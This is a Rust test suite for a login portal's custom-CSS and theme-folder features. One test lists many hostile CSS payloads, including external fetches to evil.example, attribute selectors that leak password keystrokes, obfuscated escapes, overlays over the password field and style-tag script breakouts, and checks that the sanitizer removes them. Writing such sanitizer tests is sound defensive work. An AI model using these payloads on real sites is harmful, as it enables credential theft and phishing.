//! A site's own CSS, and looks as folders: through the API, the dashboard and the command line.

use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
};

use axum::http::{Method, StatusCode};
use clap::Parser;
use regex::Regex;
use serde_json::json;
use time::{Duration, OffsetDateTime};
use vestibule::{
    command::theme::{self, Command},
    config::Config,
    model::{css::HOOKS, look::archive, site::Site},
    store::look_files::{self, File},
};

use crate::support::{Client, MASTER_KEY, Portal, sql};

const CSS: &str = "[data-part=card] { border-radius: 4px;\n position: fixed }\n@import url(https://evil.example);";
const TAR: [(&str, &str); 1] = [("content-type", "application/x-tar")];

fn operator(portal: &Portal, site: &Site) -> Client {
    portal.client(site).with("x-api-key", MASTER_KEY)
}

async fn publish(client: &Client, look: serde_json::Value) {
    client.patch("/api/admin/look", look).await.ok(StatusCode::OK);
    client.post("/api/admin/look/publish", json!({})).await.ok(StatusCode::OK);
}

fn sheets(page: &str) -> Vec<String> {
    let parts = page.split("<link rel=\"stylesheet\" href=\"").skip(1);
    parts.map(|part| part.split('"').next().unwrap().to_owned()).filter(|href| href.starts_with("/assets/t/")).collect()
}

#[tokio::test]
async fn a_site_s_own_css_is_cleaned_and_worn_where_nothing_is_at_stake() {
    let portal = Portal::open();
    let site = portal.site().await;
    let client = operator(&portal, &site);
    let state = client.patch("/api/admin/look", json!({ "custom_css": CSS })).await.ok(StatusCode::OK);
    assert_eq!((&state["dropped"][0]["line"], &state["dropped"][1]["line"]), (&json!(2), &json!(3)));
    publish(&client, json!({})).await;
    let mut ada = portal.member(&site, "ada@example.com").await;
    let mut stranger = portal.browser(&site);
    for page in ["/login?prompt=login", "/signup", "/forgot"] {
        stranger.visit(page).await;
        let sheets = sheets(&stranger.body);
        assert!(sheets.len() == 2 && stranger.body.contains(" data-site>"), "{page}");
        let css = portal.stranger().get(&sheets[1]).await;
        assert_eq!((css.status, css.header("content-type")), (StatusCode::OK, "text/css; charset=utf-8"));
        assert_eq!(css.text, "@layer site{[data-site] [data-part=card]{border-radius:4px;}}\n");
        assert_eq!(css.header("x-content-type-options"), "nosniff");
    }
    for page in ["/account", "/account/password", "/account/delete", "/confirm-identity", "/account/email", "/account/events"] {
        ada.visit(page).await;
        assert!(sheets(&ada.body).len() == 1 && !ada.body.contains("data-site"), "{page}");
    }
    let long = json!({ "custom_css": "[data-part=card]{gap:1px}".repeat(2500) });
    let state = client.patch("/api/admin/look", json!({ "custom_css": "x".repeat(60_000) })).await.ok(StatusCode::OK);
    assert_eq!(state["faults"], json!([]));
    assert_eq!(client.patch("/api/admin/look", long).await.status, StatusCode::OK);
    assert_eq!(client.patch("/api/admin/look", json!({ "custom_css": "x".repeat(70_000) })).await.problem().0, 413);
}

/// Each is published as it is written. What is served of it is nothing, or the harmless rest that is named beside it.
#[tokio::test]
async fn css_that_attacks_is_refused_or_inert() {
    let rest = "[data-part=card]{gap:1px}";
    let attacks = [
        // Something is fetched from elsewhere, or told to it.
        ("@import 'https://evil.example/x.css';", ""),
        ("@import url(//evil.example/x.css) layer(base);", ""),
        ("@\\69 mport 'https://evil.example/x.css';", ""),
        ("@\\49\\4dport url(x);", ""),
        ("@charset 'utf-7'; @namespace url(//evil.example);", ""),
        ("@font-face { font-family: a; src: url(//evil.example/a.woff2); unicode-range: U+41 }", ""),
        ("[data-part=card] { background-image: url(https://evil.example/x) }", ""),
        ("[data-part=card] { background-image: u\\72l(https://evil.example/x) }", ""),
        ("[data-part=card] { background-image: \\75\\72\\6c (https://evil.example/x) }", ""),
        ("[data-part=card] { background-image: image-set('https://evil.example/x' 1x) }", ""),
        ("[data-part=card] { background-image: cross-fade(url(x), #fff) }", ""),
        ("[data-part=card] { background: #fff url('data:image/svg+xml,<svg/>') }", ""),
        ("[data-part=card] { border-image: url(//evil.example) 1 }", ""),
        ("[data-part=card] { cursor: url(//evil.example), auto }", ""),
        ("[data-part=card] { --a: url(//evil.example); background-image: var(--a) }", ""),
        ("[data-part=card] { color: var(--a, url(//evil.example)) }", ""),
        ("[data-part=card] { filter: url(#x) }", ""),
        // What is typed is told letter by letter.
        ("input[value^=a] { background-image: url(//evil.example/a) }", ""),
        ("[data-part=field] input[type=password][value$='a'] { color: red }", ""),
        ("[data-part=field]:has([value^=a]) { padding: 9px }", ""),
        ("[data-part='field'][value^=\\61] { padding: 9px }", ""),
        ("[data-part=card]:not(:has([name=password])) { padding: 9px }", ""),
        // Something lies over the password, or is where it cannot be seen.
        ("[data-part=card] { position: fixed; inset: 0; z-index: 9 }", ""),
        ("[data-part=card] { p\\6fsition: f\\69xed }", ""),
        ("[data-part=logo] { position: sticky; transform: translateY(100px) scale(9) }", ""),
        ("[data-part=title] { margin: 0 0 -400px; inset-block-start: 300px }", ""),
        ("[data-part=error-summary] { display: none; visibility: hidden; opacity: 0; color: transparent }", ""),
        ("[data-part=field] { font-size: 0; clip-path: inset(50%); block-size: 0; overflow: hidden }", ""),
        ("[data-part=submit]::after { content: 'Send to evil.example'; position: absolute }", ""),
        ("#password { display: none } .input { color: #fff } * { all: unset } html { zoom: 9 }", ""),
        ("[data-part=page] [data-part=card] { animation: x 1s } @keyframes x { to { opacity: 0 } }", ""),
        // The sheet becomes something else than a sheet, or reaches out of its layer.
        ("</style><script>alert(1)</script>", ""),
        ("[data-part=card] { font-family: '</style><script>alert(1)</script>' }", ""),
        ("<!-- [data-part=card]{gap:1px} -->", rest),
        ("} [data-part=card]{gap:1px}", ""),
        ("[data-part=card]{gap:1px}}@layer evil{[data-part=card]{gap:2px}}", rest),
        ("[data-part=card]{gap:1px} @layer components { [data-part=card]{gap:2px} }", rest),
        ("[data-part=card]{gap:1px !important;gap:1px}", rest),
        ("@media (min-width: expression(alert(1))) { [data-part=card]{gap:2px} } [data-part=card]{gap:1px}", rest),
        ("@supports (background: url(//evil.example)) { [data-part=card]{gap:2px} }", ""),
        ("[data-part=card]{gap:1px}/* \\2a/ */ @import 'x';", rest),
        ("\u{feff}[data-part=card]{gap:1px}\u{1}@import 'x';", ""),
    ];
    let portal = Portal::open();
    let site = portal.site().await;
    let client = operator(&portal, &site);
    for (attack, rest) in attacks {
        publish(&client, json!({ "custom_css": attack })).await;
        let mut stranger = portal.browser(&site);
        stranger.visit("/login").await;
        assert!(stranger.status == StatusCode::OK && !stranger.body.contains("evil"), "{attack}: nothing of it is in the page");
        assert_eq!(stranger.answer_headers["content-security-policy"].to_str().unwrap().matches("http").count(), 0);
        let sheets = sheets(&stranger.body);
        let served = match sheets.get(1) {
            Some(sheet) => portal.stranger().get(sheet).await.text,
            None => String::new(),
        };
        let inner = served.trim_end().strip_prefix("@layer site{").and_then(|css| css.strip_suffix('}')).unwrap_or_default();
        assert_eq!(inner.replace("[data-site] ", "").replace(";}", "}"), rest, "{attack}");
    }
}

#[tokio::test]
async fn css_that_nobody_could_read_is_told_and_not_published() {
    let pale = "[data-part=card] { padding: 2rem }\n[data-part=title] {\n  color: #bbb;\n}";
    let portal = Portal::open();
    let site = portal.site().await;
    let client = operator(&portal, &site);
    let state =
        client.patch("/api/admin/look", json!({ "custom_css": pale, "tokens": { "mode": "light" } })).await.ok(StatusCode::OK);
    let fault = &state["faults"][0];
    assert_eq!((&fault["field"], &fault["code"]), (&json!("custom_css"), &json!("low_contrast")));
    let (detail, nearest) = (fault["detail"].as_str().unwrap(), fault["nearest"].as_str().unwrap());
    for said in ["Line 3", "title", "by day", "#bbbbbb", "#ffffff", "1.9", "4.5", nearest] {
        assert!(detail.contains(said), "{said}: {detail}");
    }
    let refused = client.post("/api/admin/look/publish", json!({})).await;
    assert_eq!(refused.errors(), [("custom_css", "low_contrast")]);

    let mut desk = portal.operator_at_desk().await;
    desk.visit(&format!("/admin/sites/{}/look", site.slug)).await;
    assert!(
        desk.sees("These keep the draft from being published") && desk.sees(nearest) && desk.sees("by day #bbbbbb meets #ffffff")
    );
    desk.press("Publish").await;
    assert_eq!(desk.status, StatusCode::UNPROCESSABLE_ENTITY);
    let mut stranger = portal.browser(&site);
    stranger.visit("/login").await;
    assert_eq!(sheets(&stranger.body).len(), 1, "nobody wears it");

    let mended = pale.replace("#bbb", nearest);
    publish(&client, json!({ "custom_css": mended })).await;
    stranger.visit("/login").await;
    let sheets_worn = sheets(&stranger.body);
    assert!(portal.stranger().get(&sheets_worn[1]).await.text.contains(nearest), "the advice is good");

    // Over another theme the same colour cannot be read any more: the look goes on without its CSS.
    portal.operator().patch(&format!("/api/sites/{}", site.id), json!({ "theme": "midnight" })).await.ok(StatusCode::OK);
    let dark = json!({ "tokens": { "mode": null }, "custom_css": "[data-part=title] { color: #eee }" });
    publish(&client, dark).await;
    portal.operator().patch(&format!("/api/sites/{}", site.id), json!({ "theme": "default" })).await.ok(StatusCode::OK);
    stranger.visit("/login").await;
    assert_eq!(sheets(&stranger.body).len(), 1);

    let folder = tempfile::tempdir().unwrap();
    fs::create_dir(folder.path().join("acme")).unwrap();
    fs::write(folder.path().join("acme/theme.toml"), "title = 'Acme'").unwrap();
    fs::write(folder.path().join("acme/custom.css"), pale).unwrap();
    let config = || Line::parse_from(["test", "--themes-dir", folder.path().to_str().unwrap()]).config;
    let refused = theme::run(config(), Command::Check { theme: None, json: false }).await.unwrap_err().to_string();
    assert!(refused.contains("acme/custom.css: line 3: title by day: #bbbbbb"), "{refused}");
    let mended = format!(
        "{}@media (prefers-color-scheme: dark) {{ [data-part=title] {{ color: var(--color-text) }} }}",
        pale.replace("#bbb", nearest)
    );
    fs::write(folder.path().join("acme/custom.css"), mended).unwrap();
    theme::run(config(), Command::Check { theme: None, json: false }).await.unwrap();
}

#[tokio::test]
async fn the_documented_parts_are_there() {
    let portal = Portal::open();
    let site = portal.site().await;
    let client = operator(&portal, &site);
    let slots = json!({ "header": "a", "footer": "a", "before_form": "a", "after_form": "a", "split_panel": "a" });
    let look = json!({ "custom_css": CSS, "slots": slots, "tokens": { "layout": { "variant": "split-start" } } });
    publish(&client, look).await;
    let mut browser = portal.browser(&site);
    browser.visit("/login").await;
    let mut seen = browser.body.clone();
    browser.press("Log in").await;
    seen += &browser.body;
    browser.sign_up("ada@example.com").await;
    portal.wait(Duration::minutes(2));
    browser.post("/check-mail/resend", &[]).await;
    browser.visit("/check-mail").await;
    seen += &browser.body;
    browser.visit(&portal.link_in_mail(&site, "ada@example.com").await).await;
    seen += &browser.body;
    assert_eq!(seen.matches(" data-site>").count(), 4, "these pages wear a site's CSS");
    let guide = fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/guides/theming.md")).unwrap();
    let told = Regex::new("(?m)^\\| `([a-z-]+)` \\|").unwrap();
    let told: BTreeSet<&str> = told.captures_iter(&guide).map(|row| row.extract::<1>().1[0]).collect();
    assert_eq!(told, HOOKS.iter().copied().collect(), "the guide tells of all and of no others");
    for hook in HOOKS {
        assert!(seen.contains(&format!("data-part=\"{hook}\"")), "no page shows {hook}");
    }
}
#[tokio::test]
async fn a_look_goes_out_as_a_folder_and_comes_in_again_elsewhere() {
    let portal = Portal::open();
    let (site, other) = (portal.site().await, portal.site().await);
    let mut desk = portal.operator_at_desk().await;
    let home = format!("/admin/sites/{}/look", site.slug);
    let answer = desk.send(Method::GET, &format!("{home}/folder"), &[], None).await;
    assert_eq!((answer.status, answer.header("content-type")), (StatusCode::OK, "application/x-tar"));
    assert_eq!(answer.header("content-disposition"), format!("attachment; filename=\"{}.tar\"", site.slug));

    let client = operator(&portal, &site);
    let svg = b"<svg xmlns='http://www.w3.org/2000/svg' width='120' height='40'><rect width='120' height='40'/></svg>";
    let raw = [("content-type", "image/svg+xml")];
    client.send(Method::PUT, "/api/admin/look/assets/logo_light", &raw, Some(svg)).await.ok(StatusCode::OK);
    let look = json!({ "tokens": { "color": { "brand": "#0b6e4f" } }, "slots": { "footer": "Hi" }, "custom_css": CSS, "texts": { "en": { "login-title": "Come in" } } });
    client.patch("/api/admin/look", look.clone()).await.ok(StatusCode::OK);

    let mut files = BTreeMap::new();
    files.insert("theme.toml".to_owned(), b"title = \"Acme\"\n[color]\nbrand = \"#0b6e4f\"\n[slots]\nfooter = \"Hi\"\n".to_vec());
    files.insert("assets/logo-light.svg".to_owned(), svg.to_vec());
    files.insert("custom.css".to_owned(), CSS.as_bytes().to_vec());
    let packed = archive::pack("acme", &files).unwrap();
    let theirs = operator(&portal, &other);
    let state = theirs.send(Method::PUT, "/api/admin/look/folder", &TAR, Some(&packed)).await.ok(StatusCode::OK);
    let draft = &state["draft"]["look"];
    assert_eq!((&draft["tokens"], &draft["slots"], &draft["custom_css"]), (&look["tokens"], &look["slots"], &look["custom_css"]));
    assert!(draft["assets"]["logo_light"].is_object() && draft["assets"]["mail_logo"].is_object());

    for (theme, field) in
        [("title = 'x'\n[color]\nbrand = 'red'", "theme.toml.tokens.color.brand"), ("extends = 'nowhere'", "theme.toml.extends")]
    {
        let packed = archive::pack("acme", &[("theme.toml".to_owned(), theme.as_bytes().to_vec())].into()).unwrap();
        let refused = theirs.send(Method::PUT, "/api/admin/look/folder", &TAR, Some(&packed)).await;
        assert_eq!(refused.errors()[0].0, field);
    }
    for (texts, field) in [("nowhere = 'x'", "texts.en.nowhere"), ("login-title = '{secret}'", "texts.en.login-title")] {
        let files = [("theme.toml", "title = 'x'"), ("texts/en.toml", texts)];
        let files = files.map(|(name, content)| (name.to_owned(), content.as_bytes().to_vec()));
        let packed = archive::pack("acme", &files.into()).unwrap();
        let refused = theirs.send(Method::PUT, "/api/admin/look/folder", &TAR, Some(&packed)).await;
        assert_eq!(refused.errors()[0].0, field, "what a text's own page refuses is refused here too");
    }
    assert_eq!(theirs.send(Method::PUT, "/api/admin/look/folder", &TAR, Some(b"x")).await.errors(), [("", "not_an_archive")]);
    let now = theirs.get("/api/admin/look").await.ok(StatusCode::OK);
    assert_eq!(&now["draft"]["look"], draft, "nothing of what was refused is kept");
    assert_eq!(portal.client(&site).get("/api/admin/look/folder").await.problem(), (401, "token_invalid"));
}

#[derive(Parser)]
struct Line {
    #[command(flatten)]
    config: Config,
}

#[tokio::test]
async fn the_command_line_begins_a_theme_that_loads() {
    let folder = tempfile::tempdir().unwrap();
    let acme = folder.path().join("acme");
    let config = || Line::parse_from(["test", "--themes-dir", folder.path().to_str().unwrap()]).config;
    let new = |extends: &str, brand: &str| Command::New {
        folder: acme.clone(),
        extends: extends.to_owned(),
        brand: brand.to_owned(),
        json: false,
    };
    assert!(theme::run(config(), new("nowhere", "#0b6e4f")).await.is_err());
    assert!(theme::run(config(), new("ledger", "green")).await.unwrap_err().to_string().contains("color.brand"));
    theme::run(config(), new("ledger", "#0b6e4f")).await.unwrap();
    assert!(theme::run(config(), new("ledger", "#0b6e4f")).await.is_err(), "what is there stays");
    theme::run(config(), Command::Check { theme: Some("acme".to_owned()), json: true }).await.unwrap();
    fs::write(acme.join("theme.toml"), "title = 'Acme'\n[color]\ntext = '#eeeeee'\n").unwrap();
    let refused = theme::run(config(), Command::Check { theme: None, json: false }).await.unwrap_err().to_string();
    assert!(refused.contains("acme/theme.toml") && refused.contains("color.text"), "{refused}");
}

#[tokio::test]
async fn a_theme_of_the_operator_brings_pictures_texts_and_css() {
    let folder = tempfile::tempdir().unwrap();
    let acme = folder.path().join("acme");
    fs::create_dir_all(acme.join("assets")).unwrap();
    let svg = "<svg xmlns='http://www.w3.org/2000/svg' width='120' height='40'><rect width='120' height='40'/></svg>";
    fs::write(acme.join("theme.toml"), "title = 'Acme'\n[slots]\nfooter = 'Since **1890**'\n").unwrap();
    fs::write(acme.join("custom.css"), CSS).unwrap();
    fs::write(acme.join("assets/logo-light.svg"), svg).unwrap();
    let portal = Portal::open_with(&["--themes-dir", folder.path().to_str().unwrap()]);
    let site = portal.site_like(|site| site.theme = Some("acme".to_owned())).await;
    let mut browser = portal.browser(&site);
    browser.visit("/login").await;
    assert!(browser.body.contains("Since <strong>1890</strong>"));
    let logo = browser.all(".logo img")[0].value().attr("src").unwrap().to_owned();
    assert_eq!(portal.stranger().get(&logo).await.status, StatusCode::OK);
    let sheets = sheets(&browser.body);
    assert!(portal.stranger().get(&sheets[1]).await.text.contains("border-radius:4px"));

    fs::write(acme.join("assets/logo-light.svg"), "<svg/>").unwrap();
    let config = Line::parse_from(["test", "--themes-dir", folder.path().to_str().unwrap()]).config;
    let refused = theme::run(config, Command::Check { theme: None, json: false }).await.unwrap_err().to_string();
    assert!(refused.contains("acme/assets/logo-light"), "{refused}");
}

#[tokio::test]
async fn a_file_that_is_kept_once_more_is_as_good_as_new() {
    let portal = Portal::open();
    let site = portal.site().await;
    let file = File::sheet(&"a".repeat(32), ".card { color: red }");
    let now = portal.app.clock.now();
    let age = async |expected: Duration| {
        let made: OffsetDateTime = sqlx::query_scalar("select created_at from look_files where site_id = $1")
            .bind(site.id)
            .fetch_one(&sql().await)
            .await
            .unwrap();
        assert_eq!((made - now).whole_minutes(), expected.whole_minutes());
    };
    let keep = async |at: OffsetDateTime| {
        let mut tx = portal.app.database.site(site.id).await.unwrap();
        look_files::keep(&mut tx, &file, at).await.unwrap();
        tx.commit().await.unwrap();
    };
    keep(now).await;
    keep(now + Duration::hours(1)).await;
    age(Duration::hours(1)).await;
    let mut tx = portal.app.database.platform("a theme that changes").await.unwrap();
    look_files::keep_for(&mut tx, site.id, &file, now + Duration::hours(2)).await.unwrap();
    tx.commit().await.unwrap();
    age(Duration::hours(2)).await;
}
